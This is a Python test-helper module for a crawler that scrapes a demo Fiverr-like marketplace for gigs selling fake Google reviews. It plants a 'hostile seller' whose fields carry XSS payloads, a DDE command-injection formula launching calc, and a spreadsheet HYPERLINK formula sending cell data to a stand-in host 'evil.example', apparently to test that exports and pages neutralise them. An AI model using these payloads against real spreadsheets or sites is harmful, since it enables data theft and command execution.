"""Shared test helpers: fixture files, the shared eval folder, a demo marketplace."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = Path(__file__).resolve().parent / "fixtures"


def shared_dir() -> Path | None:
    """../shared beside the repository (CI lays it there), or TURFWATCH_SHARED."""
    candidates = [os.environ.get("TURFWATCH_SHARED"), ROOT.parent / "shared"]
    for candidate in candidates:
        if candidate and Path(candidate).is_dir():
            return Path(candidate)
    return None


def wrap_props(data: dict) -> str:
    """An HTML page carrying `data` the way Fiverr does."""
    payload = json.dumps(data).replace("<", "\\u003c")
    return f'<html><body><script type="application/json" id="perseus-initial-props">{payload}</script></body></html>'


@pytest.fixture(scope="session")
def real_search_props() -> dict:
    return json.loads((FIXTURES / "fiverr" / "search-page-props.json").read_text(encoding="utf-8"))


@pytest.fixture(scope="session")
def challenge_page() -> bytes:
    return (FIXTURES / "fiverr" / "blocked-challenge.html").read_bytes()


# --- One real crawl of the demo, shared by the export, case-bundle and serve tests ------------

HOSTILE_SELLER = "xss_tester"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/x","Click me")'
HOSTILE_TITLE = "I will post 5 star google reviews <script>alert(1)</script> for your business"
HOSTILE_DESCRIPTION = ('=HYPERLINK("http://evil.example/steal?d="&A1,"Details") I will write and post real google '
                       "reviews from local guide accounts on your Google Maps business profile. <img src=x onerror=alert(2)>")


def _hostile_catalog(data_dir: Path) -> None:
    """The demo catalog plus one seller whose text attacks browsers and spreadsheets."""
    from crawler.demo.content import DATA_DIR, _read_jsonl

    data_dir.mkdir(parents=True)
    gigs = _read_jsonl(DATA_DIR / "gigs.jsonl")
    sellers = _read_jsonl(DATA_DIR / "sellers.jsonl")
    template_gig = next(g for g in gigs if g["sells_reviews"])
    template_seller = next(s for s in sellers if s["username"] == template_gig["seller"])
    sellers.append({**template_seller, "seller_id": 999000001, "username": HOSTILE_SELLER, "display_name": HOSTILE_NAME})
    gigs.append({**template_gig, "gig_id": 999000002, "seller": HOSTILE_SELLER, "title": HOSTILE_TITLE,
                 "slug": "post-5-star-google-reviews", "description": HOSTILE_DESCRIPTION,
                 "tags": ["google reviews", "=cmd|' /C calc'!A0"], "faq": [], "sells_reviews": 1})
    for name, rows in (("gigs.jsonl", gigs), ("sellers.jsonl", sellers)):
        (data_dir / name).write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")


@pytest.fixture(scope="session")
def crawl_db(tmp_path_factory) -> Path:
    """One real crawl of the demo marketplace (with the hostile seller) per test session."""
    from crawler.demo import DemoMarketplace
    from tests.crawl_helpers import crawl_command  # not at the top: crawl_helpers imports this module

    root = tmp_path_factory.mktemp("turfwatch-crawl")
    _hostile_catalog(root / "catalog")
    db = root / "crawl" / "t.db"
    with DemoMarketplace(data_dir=root / "catalog") as demo:
        result = subprocess.run(crawl_command(demo.base_url, db, "-s", "LOG_LEVEL=WARNING"),
                                cwd=ROOT, capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stderr[-3000:]
    return db
